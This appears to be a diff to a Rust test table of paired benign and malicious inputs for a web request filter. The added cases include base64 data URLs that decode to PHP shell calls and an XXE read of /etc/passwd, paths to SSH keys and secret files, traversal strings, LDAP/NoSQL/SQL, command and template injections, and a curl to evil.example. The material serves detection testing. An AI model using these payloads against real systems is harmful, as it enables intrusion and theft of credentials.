@@ -62,6 +62,27 @@ const PAIRS: &[Pair] = &[
         "<p><img src=\"data:image/jpeg;base64,/9j/4AAQ\" onerror=alert(1)></p>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
     ]),
     body("messages[0].content[0].image_url.url", &["data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ=="], &["data:image/jpeg;base64,/9j/4AAQ;curl http://evil.example/"]),
+    // files within URLs: documents that are run or parsed, and pictures
+    query("page", &["data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "data:text/csv;base64,YTtiCjE7Mgo="], &[
+        "data:;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHgvPg==", "data:;base64,PD89YCRfR0VUWzBdYDs=", "data:;base64,YTw/cGhwIHN5c3RlbSgnaWQnKTs=", "data:text/x-php;base64,CTw/cGhwIHBocGluZm8oKTs=",
+        "data:application/xml;base64,PHg6eC8+", "data:image/png;base64,iVBORw0KGgo8P3BocCBzeXN0ZW0oMSk7", "data:text/html;base64,PGI+eDwvYj4=", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
+        "DATA:;BASE64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHgvPg==", "data:text/plain;charset=x;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgU1lTVEVNICJhIj4=",
+    ]),
+    query("avatar", &["data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="], &["data:;base64,YTw/cGhwIHN5c3RlbSgnaWQnKTs="]),
+    body("file", &[
+        "data:application/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHgvPg==", "data:;base64,//4=", "data:application/pdf;base64,JVBERi0xLjQKJcOkw7zDtsOfCg==",
+    ], &[
+        "data:;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0+PHI+Jng7PC9yPg==",
+        "data:application/octet-stream;base64,CTw/cGhwIHBocGluZm8oKTs=", "data:image/png;base64,iVBORw0KGgo8P3BocCBzeXN0ZW0oMSk7",
+    ]),
+    // files of the system, whatever the field is called
+    body("private_key", &["a/b+c/d==", "/etc/kim", "-----BEGIN PRIVATE KEY-----"], &[
+        "/etc/passwd", "/root/.ssh/id_rsa", "/etc/ssl/private/server.key", "/run/secrets/kubernetes.io/serviceaccount/token", "/etc/fstab", "/proc/self/maps", "../../../home/app/config", " /etc/passwd",
+    ]),
+    body("page", &["<a href=\"../../../x/y.html\">x</a>", "see ../../x for the rest"], &["../../../../home/app/config", "../../../x"]),
+    at("/admin/settings", body("path", &["/var/log/nginx", "/var/lib/mysql", "/var/log/nginx/error.log"], &["/var/www/html/wp-config.php", "/var/log/auth.log", "/var/lib/mysql/mysql/user.MYD"])),
+    body("mount", &["/var/lib/docker"], &["/var/www/html/wp-config.php"]),
+    body("file", &[".env.example", "docker/.env.dist"], &[".env?.example", ".env#.example", ".htpasswd;.example"]),
     // time zones beside files
     query("tz", &[
         "Etc/UTC", "Etc/GMT+5", "Etc/GMT-14", "etc/utc", "Etc/Greenwich", "Etc/UTC,Europe/Berlin", "\"Etc/UTC\"", "America/Argentina/Ushuaia,Etc/GMT",
@@ -196,7 +217,10 @@ const PAIRS: &[Pair] = &[
         "void this, new it, alert(1)", "a, i, system('id')",
     ]),
     // passwords that look like a filter or a path
-    body("password", &["(*)(uid=x)", "/etc/kim", "a(b)*(c=d)"], &["*)(uid=*))(|(uid=*", "x)(uid=admin))(|(a=b", "/etc/passwd", "../../etc/shadow"]),
+    body("password", &["(*)(uid=x)", "/etc/kim", "a(b)*(c=d)", "n)(I<Yqk", "Xk$0<<<9a", "x1';", "a'-'Kx9!pQ7z", "$inK4l:x", "p;ls9>k/x"], &[
+        "*)(uid=*))(|(uid=*", "x)(uid=admin))(|(a=b", "/etc/passwd", "../../etc/shadow", "()(uid=*))(|(uid=*", "a(b)*)(uid=*))(|(uid=*", "admin)(&)", "*)(&", "x)(|(a=*", "{\"$ne\":null}", "{$gt:''}",
+        "'or'1", "'||'1", "'<(ascii(user()))#", "x;id>/var/www/a.txt", "x;/bin/c?t${HOME}", "x;$SHELL<<<id", "{{7*7}}", "<%=7*7%>", "../../../x",
+    ]),
 ];
 
 fn found(pair: &Pair, text: &str) -> Option<(&'static str, &'static str)> {
